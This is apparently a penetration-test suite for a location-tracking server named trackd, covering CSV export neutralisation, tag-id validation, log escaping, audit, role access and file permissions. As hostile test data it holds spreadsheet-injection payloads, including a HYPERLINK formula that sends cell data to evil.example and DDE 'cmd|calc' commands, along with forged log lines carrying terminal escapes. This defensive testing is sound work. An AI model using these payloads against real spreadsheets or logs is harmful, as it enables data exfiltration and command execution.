// Pen-test findings, each against a real trackd: CSV exports that cannot
// forge rows or run formulas, tag ids held to a printable set, free text
// escaped in the log; refused look-ups and acknowledgements in the audit
// trail; the site's roster of people only for roles that may see people;
// a restart that does not bring back a flood's junk; scanner tokens bound
// to their scanners; private database files; /metrics for admin and
// monitor; refused WebSocket handshakes answered as JSON; the web root's
// npm files beyond the libraries the page loads not served.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { test } from 'node:test';

import { SITE, TRACKD, WEB, feed, hearing, makeToken, now, sleep, startTrackd, tempDir, until }
	from './trackd.mjs';

const dir = tempDir('trackd-hardening-');
const PERSON = { tag: 'badge-0001', floor: 'f0', x: 12.0, y: 6.0 };
const ASSET = { tag: 'pump-001', floor: 'f0', x: 20.0, y: 11.0 };

// RFC 4180 records of text (quoted fields may hold commas, quotes, CR, LF).
function parseCsv(text) {
	const rows = [];
	let row = [], field = '', quoted = false, i = 0;
	while (i < text.length) {
		const c = text[i];
		if (quoted) {
			if (c === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
			if (c === '"') { quoted = false; i++; continue; }
			field += c; i++; continue;
		}
		if (c === '"' && field === '') { quoted = true; i++; continue; }
		if (c === ',') { row.push(field); field = ''; i++; continue; }
		if (c === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; continue; }
		field += c; i++;
	}
	if (field !== '' || row.length)
		rows.push([...row, field]);
	return rows;
}

// A copy of the demo site with an asset and a zone named to attack a
// spreadsheet (no drawings: they are not what is tested).
function hostileSite() {
	const site = JSON.parse(readFileSync(SITE, 'utf8'));
	for (const f of site.floors)
		delete f.image;
	const pump = site.tags.find((t) => t.id === ASSET.tag);
	pump.name = 'pump\r\n=HYPERLINK("http://evil.example/?x="&A1),x,y';
	pump.category = "+cmd|' /C calc'!A0";
	site.zones[0].id = '=1+2';
	const file = path.join(dir, 'hostile-site.json');
	writeFileSync(file, JSON.stringify(site));
	return file;
}

const FORMULA = /^[=+\-@\t\r]/;

test('CSV exports quote every field that needs it and neutralise formulas', async () => {
	const db = path.join(dir, 'csv.db');
	const trackd = await startTrackd(['--site', hostileSite(), '--db', db]);
	try {
		const ingest = await trackd.ingest();
		const evil = '=cmd|calc!A0';
		// In the ICU long enough for a zone_enter event of each.
		await feed(ingest, [{ tag: evil, floor: 'f0', x: 30, y: 5 },
			{ ...ASSET, x: 30, y: 5 }], 6);
		ingest.close();
		const from = Math.floor(now() - 120);
		const events = await until(async () => {
			const res = await trackd.get(`/api/v1/events?from=${from}&format=csv`);
			return res.text.includes('cmd|calc') && res;
		}, 8000, 'the events of the formula tag');
		const checks = [
			[`/api/v1/events?from=${from}&format=csv`, 7, events.text],
			['/api/v1/reports/utilization?format=csv', 6],
			['/api/v1/reports/dwell?format=csv', 6],
			['/api/v1/reports/occupancy?format=csv', 8],
		];
		for (const [url, columns, known] of checks) {
			const text = known ?? (await trackd.get(url)).text;
			const rows = parseCsv(text);
			assert.ok(rows.length > 1, `${url}: rows\n${text}`);
			for (const r of rows)
				assert.equal(r.length, columns, `${url}: every row has ${columns} ` +
					`fields: ${JSON.stringify(r)}\n${text}`);
			for (const r of rows.slice(1))
				for (const f of r)
					assert.ok(!FORMULA.test(f) || /^-?\d/.test(f),
						`${url}: no field starts a formula: ${JSON.stringify(f)}`);
		}
		const ev = parseCsv(events.text).find((r) => r[2].includes('cmd|calc'));
		assert.equal(ev[2], `'${evil}`, 'the tag id, neutralised');
		const util = parseCsv((await trackd.get('/api/v1/reports/utilization?format=csv')).text)
			.find((r) => r[0] === ASSET.tag);
		assert.equal(util[1], `pump\r\n=HYPERLINK("http://evil.example/?x="&A1),x,y`,
			'the name is one quoted field, newlines and commas inside');
		assert.equal(util[2], `'+cmd|' /C calc'!A0`);
		const dwell = parseCsv((await trackd.get('/api/v1/reports/dwell?format=csv')).text);
		assert.ok(dwell.some((r) => r[0] === "'=1+2"), 'the zone id, neutralised');
	} finally {
		await trackd.stopClean();
	}
});

test('tag ids are printable ASCII without , " \\ / and spaces: others refused and counted', async () => {
	const trackd = await startTrackd();
	try {
		const bad = ['a b', 'x\ntrackd: forged', '\u001b[31mred', 'a"b', 'a\\b', 'a,b',
			'a/b', 'caf\u00e9'];
		const good = ['aa:bb:cc:dd:ee:ff', 'ibeacon:f7826da6-4fa2-4e98-8024-bc5b71e0893e-1-2',
			'eddystone:00112233445566778899-aabbccddeeff', 'altbeacon:0011', 'apple:1005:9-26',
			'x'.repeat(63)];
		const t = now();
		// Empty and too long: the engine's refusal, as before.
		const reports = [...bad, ...good, '', 'x'.repeat(64)].map((tag) =>
			({ tag, rssi: -60, t }));
		const res = await trackd.post('/api/v1/ingest',
			JSON.stringify({ scanner: 'ap-f0-01', reports }));
		assert.equal(res.status, 200, res.text);
		const answer = res.json();
		assert.equal(answer.accepted, good.length, res.text);
		const n = bad.length + good.length;
		assert.deepEqual(answer.rejected.map((r) => r.index),
			[...bad.map((_, i) => i), n, n + 1]);
		for (const r of answer.rejected.slice(0, bad.length))
			assert.match(r.error, /'tag' must be 1 to 63 printable ASCII characters/);
		for (const r of answer.rejected.slice(bad.length))
			assert.equal(r.error, 'id empty or too long');
		assert.equal(await trackd.metric('trackd_reports_bad_tag_total'), bad.length);
	} finally {
		await trackd.stopClean();
	}
});

test('an acknowledgement note is escaped in the log', async () => {
	const trackd = await startTrackd();
	try {
		const ingest = await trackd.ingest();
		await feed(ingest, [{ ...PERSON, button: true }], 1);
		const alarm = await until(async () =>
			(await trackd.get('/api/v1/alarms')).json().alarms[0], 3000, 'the alarm');
		const note = 'lead\ntrackd: alarm 99 acknowledged by admin\u001b[2J';
		const res = await trackd.post(`/api/v1/alarms/${alarm.id}/ack`,
			JSON.stringify({ by: note }));
		assert.equal(res.status, 200, res.text);
		assert.equal(res.json().acked_by, note, 'the note is kept as typed');
		await until(() => trackd.stderr().includes(`alarm ${alarm.id} acknowledged by`), 2000,
			'the log line');
		const log = trackd.stderr();
		assert.ok(!log.includes('\u001b'), 'no terminal escape in the log');
		assert.ok(!/^trackd: alarm 99/m.test(log), `no forged line:\n${log}`);
		assert.ok(log.includes('lead\\x0atrackd: alarm 99 acknowledged by admin\\x1b[2J'), log);
		ingest.close();
	} finally {
		await trackd.stopClean();
	}
});

test('audit: refused look-ups, events of one tag, acknowledgements by token', async () => {
	const db = path.join(dir, 'audit.db');
	const token = {};
	for (const role of ['scanner', 'viewer', 'security', 'responder', 'admin'])
		token[role] = makeToken(db, role, `${role} one`);
	const trackd = await startTrackd(['--db', db]);
	try {
		const from = now() - 1;
		const ingest = await trackd.ingest(token.scanner);
		await feed(ingest, [PERSON, ASSET], 2);
		assert.equal((await trackd.get(`/api/v1/tags/${PERSON.tag}`, token.viewer)).status, 403);
		assert.equal((await trackd.get(`/api/v1/tags/${PERSON.tag}/history`,
			token.responder)).status, 403);
		assert.equal((await trackd.get(`/api/v1/tags/${PERSON.tag}`, token.scanner)).status, 403);
		assert.equal((await trackd.get(`/api/v1/events?tag=${PERSON.tag}`, token.viewer)).status,
			403);
		assert.equal((await trackd.get(`/api/v1/events?tag=${PERSON.tag}`, token.security)).status,
			200);
		const live = await trackd.live(token.viewer);
		live.subscribe({ tag: PERSON.tag });
		await live.waitFor((m) => m.type === 'error', 3000, 'the refusal');
		live.close();

		await feed(ingest, [{ ...PERSON, button: true }], 1);
		const alarm = await until(async () =>
			(await trackd.get('/api/v1/alarms', token.responder)).json().alarms[0], 3000,
		'the alarm');
		const ack = await trackd.post(`/api/v1/alarms/${alarm.id}/ack`,
			JSON.stringify({ by: 'security lead' }), 'application/json', token.responder);
		assert.equal(ack.status, 200, ack.text);
		ingest.close();

		const rows = (await trackd.get(`/api/v1/audit?from=${from}`, token.admin)).json().audit;
		const has = (name, action, whom) => assert.ok(rows.some((r) => r.name === name &&
			r.action === action && r.whom === whom),
		`${name} ${action} ${whom} in\n${JSON.stringify(rows, null, 1)}`);
		has('viewer one', 'position refused', PERSON.tag);
		has('responder one', 'history refused', PERSON.tag);
		has('scanner one', 'position refused', PERSON.tag);
		has('viewer one', 'events refused', PERSON.tag);
		has('security one', 'events', PERSON.tag);
		has('viewer one', 'follow refused', PERSON.tag);
		// The token says who: "security lead" is only the note.
		has('responder one', 'acknowledge', PERSON.tag);
		const row = rows.find((r) => r.action === 'acknowledge');
		assert.equal(row.role, 'responder');
		assert.equal(typeof row.token, 'number');
		assert.ok(!rows.some((r) => r.whom === '*' && r.action === 'events'),
			'events of one tag are not audited as everyone');
	} finally {
		await trackd.stopClean();
	}
});

test('the site file leaves people out for roles that may not see them', async () => {
	const db = path.join(dir, 'site.db');
	const token = {};
	for (const role of ['viewer', 'manager', 'security', 'admin'])
		token[role] = makeToken(db, role, `${role} one`);
	const trackd = await startTrackd(['--db', db]);
	try {
		const people = JSON.parse(readFileSync(SITE, 'utf8')).tags
			.filter((t) => t.kind !== 'asset');
		assert.ok(people.length > 0);
		for (const role of ['viewer', 'manager']) {
			const res = await trackd.get('/api/v1/site', token[role]);
			assert.equal(res.status, 200);
			const site = res.json();
			assert.ok(site.tags.length > 0 && site.tags.every((t) => t.kind === 'asset'), role);
			assert.ok(!people.some((p) => res.text.includes(p.name)), `${role}: no names`);
			assert.ok(site.zones.length > 0 && site.scanners.length > 0, 'the rest is there');
		}
		const from = now() - 1;
		const full = (await trackd.get('/api/v1/site', token.security)).json();
		assert.equal(full.tags.filter((t) => t.kind !== 'asset').length, people.length);
		const rows = (await trackd.get(`/api/v1/audit?from=${from}`, token.admin)).json().audit;
		assert.ok(rows.some((r) => r.name === 'security one' && r.action === 'site'),
			'the roster of people is audited');
	} finally {
		await trackd.stopClean();
	}
});

test('a restart brings back the site\'s tags and well-heard ones, not a flood\'s junk', async () => {
	const db = path.join(dir, 'restart.db');
	let trackd = await startTrackd(['--db', db]);
	const junk = Array.from({ length: 300 }, (_, i) =>
		`aa:bb:cc:${(i >> 8).toString(16).padStart(2, '0')}:${(i & 255).toString(16)
			.padStart(2, '0')}:01`);
	const visitor = { tag: 'visitor-phone', floor: 'f0', x: 14.0, y: 11.0 };
	assert.ok(hearing('f0', 14.0, 11.0).length >= 3, 'the visitor is heard by several');
	try {
		const ingest = await trackd.ingest();
		await feed(ingest, [PERSON, ASSET, visitor], 3);
		// One scanner hears each random address once or twice.
		for (let k = 0; k < 2; k++) {
			const answer = await ingest.send({ scanner: 'ap-f0-01',
				reports: junk.map((tag) => ({ tag, rssi: -70, t: now() })) });
			assert.equal(answer.accepted, junk.length);
			await sleep(1100);
		}
		await until(async () => (await trackd.get('/api/v1/tags')).json().tags
			.filter((t) => junk.includes(t.id)).length > 100, 5000, 'the junk located');
		await until(async () => await trackd.metric('trackd_db_pending_rows') === 0, 5000,
			'the rows written');
		ingest.close();
	} finally {
		await trackd.stopClean();
	}
	trackd = await startTrackd(['--db', db]);
	try {
		const ids = (await trackd.get('/api/v1/tags')).json().tags.map((t) => t.id);
		for (const t of [PERSON.tag, ASSET.tag, visitor.tag])
			assert.ok(ids.includes(t), `${t} is back: ${ids.length} tags`);
		assert.equal(ids.filter((id) => junk.includes(id)).length, 0,
			'no junk came back');
		assert.match(trackd.stderr(), /stray last positions forgotten/);
	} finally {
		await trackd.stopClean();
	}
});

test('a scanner token bound with --scanner reports for its scanners only', async () => {
	const db = path.join(dir, 'bound.db');
	const out = execFileSync(TRACKD, ['token', 'add', '--role', 'scanner', '--name', 'f0-01',
		'--scanner', 'ap-f0-01', '--scanner', 'ap-f0-03', '--db', db], { encoding: 'utf8' });
	const bound = out.trim().split('\n').at(-1);
	assert.match(out, /scanners \["ap-f0-01","ap-f0-03"\]/);
	const bad = spawnSync(TRACKD, ['token', 'add', '--role', 'viewer', '--scanner', 'ap-f0-01',
		'--db', db], { encoding: 'utf8' });
	assert.equal(bad.status, 2);
	assert.match(bad.stderr, /--scanner is for token add --role scanner only/);
	const admin = makeToken(db, 'admin');
	const trackd = await startTrackd(['--db', db]);
	try {
		const doc = (scanner) => JSON.stringify({ scanner,
			reports: [{ tag: ASSET.tag, rssi: -60, t: now() }] });
		for (const s of ['ap-f0-01', 'ap-f0-03'])
			assert.equal((await trackd.post('/api/v1/ingest', doc(s), 'application/json',
				bound)).status, 200, s);
		const res = await trackd.post('/api/v1/ingest', doc('ap-f0-02'), 'application/json',
			bound);
		assert.equal(res.status, 403, res.text);
		assert.match(res.json().detail, /may not report for this scanner/);
		// The same over the WebSocket; an unbound token reports for any.
		const ws = await trackd.ingest(bound);
		const answer = await ws.send(doc('ap-f0-02'));
		assert.match(answer.error, /may not report for this scanner/);
		assert.equal(answer.accepted, 0);
		assert.equal((await ws.send(doc('ap-f0-01'))).accepted, 1);
		ws.close();
		assert.equal((await trackd.post('/api/v1/ingest', doc('ap-f0-02'), 'application/json',
			admin)).status, 200);
		assert.equal(await trackd.metric('trackd_ingest_wrong_scanner_total', admin), 2);
	} finally {
		await trackd.stopClean();
	}
});

test('the database, its WAL and a backup are the owner\'s only (0600)', async () => {
	const db = path.join(dir, 'private.db');
	// A file made before, world-readable, is made private too.
	const scanner = makeToken(db, 'scanner');
	chmodSync(db, 0o644);
	const trackd = await startTrackd(['--db', db]);
	try {
		const ingest = await trackd.ingest(scanner);
		await feed(ingest, [ASSET], 2);
		ingest.close();
		for (const f of [db, `${db}-wal`, `${db}-shm`]) {
			assert.ok(existsSync(f), f);
			assert.equal(statSync(f).mode & 0o777, 0o600, `${f} is 0600`);
		}
		const copy = path.join(dir, 'copy.db');
		execFileSync(TRACKD, ['backup', copy, '--db', db]);
		assert.equal(statSync(copy).mode & 0o777, 0o600, 'the backup is 0600');
	} finally {
		await trackd.stopClean();
	}
});

test('/metrics is for the admin and monitor roles only', async () => {
	const db = path.join(dir, 'metrics.db');
	const token = {};
	for (const role of ['scanner', 'viewer', 'security', 'manager', 'monitor', 'admin'])
		token[role] = makeToken(db, role);
	const trackd = await startTrackd(['--db', db]);
	try {
		for (const [role, status] of [['scanner', 403], ['viewer', 403], ['security', 403],
			['manager', 403], ['monitor', 200], ['admin', 200]]) {
			const res = await trackd.get('/metrics', token[role]);
			assert.equal(res.status, status, `${role}: ${res.text.slice(0, 100)}`);
		}
		// A monitor token sees nothing else.
		assert.equal((await trackd.get('/api/v1/site', token.monitor)).status, 403);
		assert.equal((await trackd.get('/api/v1/tags', token.monitor)).status, 403);
	} finally {
		await trackd.stopClean();
	}
});

// The raw answer to a WebSocket upgrade, up to the server's close.
function upgrade(port, protocol, query = '') {
	return new Promise((resolve, reject) => {
		const s = net.connect(port, '127.0.0.1', () => s.write(
			`GET /${query} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUpgrade: websocket\r\n` +
			'Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n' +
			`Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: ${protocol}\r\n\r\n`));
		let data = '';
		s.setEncoding('utf8');
		s.on('data', (d) => { data += d; });
		s.on('close', () => resolve(data));
		s.on('error', reject);
		s.setTimeout(3000, () => { s.destroy(); resolve(data); });
	});
}

test('a refused WebSocket handshake is answered 401/403 as JSON', async () => {
	const db = path.join(dir, 'handshake.db');
	const viewer = makeToken(db, 'viewer');
	const scanner = makeToken(db, 'scanner');
	const trackd = await startTrackd(['--db', db]);
	try {
		for (const [protocol, query, status, error] of [
			['track-live.v1', '', 401, 'unauthorized'],
			['track-ingest.v1', '', 401, 'unauthorized'],
			['track-ingest.v1', `?token=${viewer}`, 403, 'forbidden'],
			['track-live.v1', `?token=${scanner}`, 403, 'forbidden'],
		]) {
			const answer = await upgrade(trackd.port, protocol, query);
			const where = `${protocol}${query ? ' with a token' : ''}: ${answer}`;
			assert.match(answer, new RegExp(`^HTTP/1\\.[01] ${status} `), where);
			assert.match(answer, /content-type: application\/json/i, where);
			const body = JSON.parse(answer.slice(answer.indexOf('\r\n\r\n') + 4));
			assert.equal(body.error, error, where);
			assert.equal(typeof body.detail, 'string');
		}
	} finally {
		await trackd.stopClean();
	}
});

test('of the npm files only the libraries the page loads are served', async () => {
	if (!existsSync(path.join(WEB, 'node_modules', 'leaflet')))
		return; // npm ci not run: nothing to serve or refuse
	const trackd = await startTrackd();
	try {
		for (const ok of ['/node_modules/leaflet/dist/leaflet.css',
			'/node_modules/leaflet/dist/leaflet-src.esm.js',
			'/node_modules/uplot/dist/uPlot.esm.js', '/index.html'])
			assert.equal((await trackd.get(ok)).status, 200, ok);
		for (const bad of ['/package.json', '/package-lock.json', '/node_modules/',
			'/node_modules', '/node_modules/leaflet/package.json',
			'/node_modules/leaflet/README.md', '/node_modules/leaflet/src/Leaflet.js',
			'/node_modules/.package-lock.json', '/node_modules/uplot/package.json'])
			assert.equal((await trackd.get(bad)).status, 404, bad);
	} finally {
		await trackd.stopClean();
	}
});
